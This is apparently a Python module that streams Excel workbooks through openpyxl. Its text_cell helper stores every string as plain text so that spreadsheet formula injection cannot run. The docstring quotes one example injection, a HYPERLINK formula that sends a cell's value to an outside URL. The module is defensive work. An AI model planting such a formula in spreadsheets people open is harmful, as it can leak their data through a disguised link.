"""Excel workbooks people file or forward: a caption row, a bold header row, then data rows.

Written with openpyxl's write-only mode, so a sheet of 100,000 rows streams instead of building a
cell object per value; text columns (staff and ID numbers) are stored as text so Excel and WPS keep
their leading zeros.

Every string is written as a string cell (``text_cell``), never as a formula: openpyxl turns any str
that starts with "=" into a formula, so a pledge ``=HYPERLINK("http://…?leak="&B3,"点击查看")`` or a
name ``=1+2`` would run when the file is opened in Excel, WPS or LibreOffice. A string cell shows the
text exactly as typed; Excel never evaluates it, whatever it starts with (=, +, -, @, tab, CR).
Every workbook the application writes goes through ``workbook_bytes`` or ``text_cell``.
"""

import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell import Cell


@dataclass
class Sheet:
    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]
    caption: str = ""
    widths: Sequence[int] = ()
    text_columns: frozenset[int] = field(default_factory=frozenset)  # 0-based indexes
    date_columns: frozenset[int] = field(default_factory=frozenset)
    wrap: bool = False  # wrap long text and align rows to the top (pledge texts, comments)


def text_cell(cell: "Cell") -> "Cell":
    """Store the cell's str value as a string, never as a formula or an error code.

    openpyxl types a str by its look ("=..." becomes a formula, "#N/A" an error); this undoes that so
    user text is shown, and kept, exactly as it was typed. Other values (numbers, dates) are left alone.
    """
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    wrapped = Alignment(wrap_text=True, vertical="top")
    for spec in sheets:
        sheet = workbook.create_sheet(title=spec.title[:31])
        for index, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = width
        if spec.caption:
            sheet.append([text_cell(WriteOnlyCell(sheet, value=spec.caption))])
        header_cells = []
        for text in spec.headers:
            cell = text_cell(WriteOnlyCell(sheet, value=text))
            cell.font = bold
            header_cells.append(cell)
        sheet.append(header_cells)
        for row in spec.rows:
            values: list[Any] = []
            for index, value in enumerate(row):
                cell = text_cell(WriteOnlyCell(sheet, value=value))
                if index in spec.text_columns:
                    cell.number_format = "@"
                elif index in spec.date_columns:
                    cell.number_format = "yyyy-mm-dd"
                if spec.wrap:
                    cell.alignment = wrapped
                values.append(cell)
            sheet.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
